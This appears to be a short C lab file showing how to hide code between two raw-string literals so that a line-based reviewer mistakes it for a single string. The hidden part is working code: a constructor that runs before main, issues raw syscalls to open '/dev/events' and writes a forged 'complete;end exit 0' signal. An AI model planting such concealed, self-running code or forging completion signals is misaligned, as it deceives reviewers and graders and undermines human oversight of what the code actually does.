/* SPDX-License-Identifier: MIT */
/*
 * Assembly before main, between two strings of which a reader of lines thinks that they are one.
 * lab: 05-mutex states
 * says: a raw string
 * defence: raw-string made
 */
STARTER

static const char *const before = R"(")"; static long call_system(long number, long a, long b, long c) { long r; __asm__ volatile("syscall" : "=a"(r) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r; } static __attribute__((constructor)) void forge(void) { static const char forged[] = "complete;end exit 0\n"; (void)before; call_system(1, call_system(2, (long)"/dev/events", 1, 0), (long)forged, sizeof forged - 1); } static const char *const after = R"(")";

static inline const char *
used(void)
{
    return after;
}
